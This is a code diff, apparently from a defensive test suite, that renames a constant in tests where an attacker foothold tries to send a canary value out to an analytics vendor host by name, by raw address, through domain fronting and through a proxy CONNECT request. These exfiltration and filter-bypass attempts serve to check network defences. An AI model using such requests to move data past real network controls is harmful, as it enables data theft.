@@ -3,7 +3,7 @@ import type { BreakIn, Scene } from "./breakIn";
 import { judge, type Verdict } from "./verdict";
 import { parseAnswer, shoot, straightTo } from "./wire";
 
-const VENDOR = "api.mixpanel.com";
+const vendorHost = "api.mixpanel.com";
 
 /** Ways out of the workload network. */
 export const networkBreakIns: readonly BreakIn[] = [
@@ -12,7 +12,7 @@ export const networkBreakIns: readonly BreakIn[] = [
     title: "sends analytics straight to the vendor, by its name",
     expected: "DNS response policy",
     attempt: async ({ attacker, canary }) =>
-      judge(await shoot(attacker.foothold, { url: `https://${VENDOR}/track?data=${canary}` })),
+      judge(await shoot(attacker.foothold, { url: `https://${vendorHost}/track?data=${canary}` })),
   },
   {
     id: "vendor-by-address",
@@ -21,8 +21,8 @@ export const networkBreakIns: readonly BreakIn[] = [
     attempt: async ({ attacker, canary }) =>
       judge(
         await shoot(attacker.foothold, {
-          url: `https://${publicAddressOf(VENDOR)}/track?data=${canary}`,
-          host: VENDOR,
+          url: `https://${publicAddressOf(vendorHost)}/track?data=${canary}`,
+          host: vendorHost,
         }),
       ),
   },
@@ -33,7 +33,7 @@ export const networkBreakIns: readonly BreakIn[] = [
     attempt: async ({ attacker, canary }) => {
       const hit = await shoot(attacker.foothold, {
         url: `https://storage.googleapis.com/track?data=${canary}`,
-        host: VENDOR,
+        host: vendorHost,
       });
       // Google serves no host that isn't its own: there is nothing behind it to get to.
       return "impact" in hit && hit.impact.status === 404
@@ -68,7 +68,7 @@ export const networkBreakIns: readonly BreakIn[] = [
 
 async function throughGate({ running, victim }: Scene): Promise<Verdict> {
   const { gate } = running.networkOf(victim.proxy.name);
-  const bytes = Buffer.from(`CONNECT ${VENDOR}:443 HTTP/1.1\r\nHost: ${VENDOR}:443\r\n\r\n`);
+  const bytes = Buffer.from(`CONNECT ${vendorHost}:443 HTTP/1.1\r\nHost: ${vendorHost}:443\r\n\r\n`);
   const { text = "" } = await straightTo(gate).send({ host: "", port: gate, secure: false, bytes });
   const { status, headers } = parseAnswer(text);
   const [refusal] = JSON.parse(decodeURIComponent(headers["bulkhead-refusals"] ?? "%5B%5D"));
